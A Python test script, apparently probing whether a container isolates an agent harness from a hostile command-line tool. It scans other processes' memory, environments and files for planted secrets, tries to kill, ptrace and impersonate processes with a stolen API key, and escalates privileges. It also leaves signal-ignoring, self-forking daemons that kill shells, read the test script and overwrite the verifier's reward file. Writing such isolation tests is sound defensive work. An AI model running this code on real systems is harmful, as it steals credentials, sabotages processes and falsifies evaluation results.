"""What a hostile CLI does in a container that it shares with cab: looks for what is kept from it, attacks
cab, and leaves processes and files behind. Run as `python3 -c` with the encoded markers of secrets; prints
JSON. Also run as root, where all of it has to be found.
"""

import base64
import ctypes
import json
import os
import signal
import socket
import sys
import time
import urllib.error
import urllib.request

MARKERS = {name: base64.b64decode(text[::-1]) for name, text in json.loads(sys.argv[1]).items()}
LEAVE = sys.argv[2] == "leave"
OWN = {os.getpid(), os.getppid()}
found = set()
looked = {"files": 0, "processes": 0, "memory": 0}


def look(data, place):
    for name, marker in MARKERS.items():
        if marker in data:
            found.add((name, place))


def read(path, place=None):
    try:
        with open(path, "rb") as file:
            looked["files"] += 1
            look(file.read(16 << 20), place or path)
    except OSError:
        pass


def memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if end - start < 256 << 20:
                    try:
                        memory.seek(start)
                        look(memory.read(end - start), "memory")
                        looked["memory"] += 1
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) not in OWN]


for pid in processes():
    looked["processes"] += 1
    for part in ("environ", "cmdline", "auxv", "stack", "syscall"):
        read(f"/proc/{pid}/{part}", part)
    memory(pid)
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            if os.path.isfile(f"/proc/{pid}/fd/{number}"):
                read(f"/proc/{pid}/fd/{number}", "descriptor")
    except OSError:
        pass
for data in os.environ.items():
    look("=".join(data).encode(), "own environment")
for top in (
    "/opt",
    "/out",
    "/var",
    "/tmp",
    "/run",
    "/root",
    "/home",
    "/tests",
    "/solution",
    "/logs",
    "/dev/shm",
    "/etc",
):
    for directory, _, names in os.walk(top):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.isfile(path) and not os.path.islink(path):
                read(path, top)

said = {"found": sorted(found), "looked": looked, "uid": os.getuid()}


def attempt(action):
    """What came of it: its result, or the name of the error."""
    try:
        return action()
    except OSError as error:
        return type(error).__name__


def call(credential):
    request = urllib.request.Request(
        os.environ["URL"] + "/v1/models", headers={"Authorization": "Bearer " + credential}
    )
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code


def attach(pid):
    if ctypes.CDLL(None, use_errno=True).ptrace(16, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"


def write(path):
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o666))
    return "written"


if LEAVE:
    libc = ctypes.CDLL(None)
    others = processes()
    status = open("/proc/self/status").read()
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    said["attacks"] = {
        "others": len(others),
        "kill": sorted({str(attempt(lambda pid=pid: os.kill(pid, signal.SIGKILL))) for pid in others}),
        "ptrace": sorted({str(attempt(lambda pid=pid: attach(pid))) for pid in others}),
        "ptrace of its own": attempt(lambda: attach(child)),
        "list": {path: attempt(lambda path=path: os.listdir(path)) for path in ("/opt/cab", "/root")},
        "credential": [attempt(lambda c=c: call(c)) for c in (os.environ["KEY"], "sk-guessed", "")],
        "connect": attempt(
            lambda: socket.create_connection(("127.0.0.1", int(os.environ["OTHER_PORT"])), 2) and "connected"
        ),
        "write": {
            path: attempt(lambda path=path: write(path))
            for path in (
                "/tmp/planted",
                "/dev/shm/planted",
                "/dev/mqueue/planted",
                "/var/tmp/planted",
                "/out/planted",
                "/run/lock/planted",
                "/workdir/planted",
                "/home/agent/planted",
                "/etc/planted",
            )
        },
        "become root": attempt(lambda: os.setuid(0)),
        "setuid programs": sum(
            bool(os.lstat(os.path.join("/usr/bin", name)).st_mode & 0o4000) for name in os.listdir("/usr/bin")
        ),
        "no new privileges": "NoNewPrivs:\t1" in status,
        "shared memory": libc.shmget(4711, 4096, 0o1666) >= 0,
        "links": [
            attempt(lambda: os.symlink("/etc/passwd", "/tmp/link") or "made"),
            attempt(lambda: os.mkfifo("/tmp/fifo") or "made"),
        ],
    }
    # What is to outlive it: daemons that multiply, and one that kills whatever it may.
    for number in range(3):
        if os.fork() == 0:
            os.setsid()
            for name in range(1, 65):
                try:
                    signal.signal(name, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            os.close(0), os.close(1), os.close(2)
            while True:
                if number == 0:
                    time.sleep(0.2)
                    for other in processes():
                        attempt(
                            lambda other=other: (
                                open(f"/proc/{other}/comm").read() == "sh" and os.kill(other, 9)
                            )
                        )
                elif number == 1:
                    try:
                        if os.fork():
                            os._exit(0)
                    except OSError:
                        pass
                    os.setsid()
                    time.sleep(0.002)
                attempt(lambda: write("/tmp/stolen") if open("/tests/test.sh").read() else None)
                attempt(lambda: write("/logs/verifier/reward.txt"))
    time.sleep(float(os.environ["STAY_S"]))
print(json.dumps(said), flush=True)
